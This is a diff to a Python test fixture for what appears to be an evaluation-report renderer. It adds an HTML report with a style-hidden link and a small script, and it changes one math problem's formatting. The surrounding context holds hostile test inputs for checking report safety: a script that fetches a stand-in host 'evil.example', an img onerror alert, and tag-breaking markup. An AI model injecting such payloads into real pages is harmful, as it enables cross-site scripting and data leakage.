@@ -45,6 +45,17 @@ CONFIG = {
     },
 }
 
+# What matters here of a report: links that its style shows where the view serves it, and scripts.
+REPORT = """<!DOCTYPE html>
+<html lang="en">
+<head><title>report</title>
+<style>.look { display: none } .in-view .look { display: inline }</style></head>
+<body><a class="look" href="samples?truncated=yes">its samples</a>
+<script>
+document.title = self.origin;
+fetch("/samples").catch(() => document.title += " alone");
+</script>
+"""
 SCRIPT = "<script>document.title = 'owned'; fetch('http://evil.example/')</script>"
 HOSTILE = (
     SCRIPT + "<img src=x onerror=alert(1)></div></pre><h1>not a heading</h1>",
@@ -70,7 +81,7 @@ PROBLEMS = (
         "c",
         strata={"level": "5"},
     ),
-    Problem("plain", "d", "What is 3 times 4?", Gold(GoldKind.NUMBER, "12"), "c"),
+    Problem("plain", "d", r"What is $3 \times 4$?", Gold(GoldKind.NUMBER, "12"), "c"),
 )
 
 
@@ -132,6 +143,7 @@ def make_scored_run(folder: Path) -> Path:
     )
     run.write_manifest(manifest)
     _score(run, manifest, store)
+    run.html.write_text(REPORT)
     return run.path
 
 
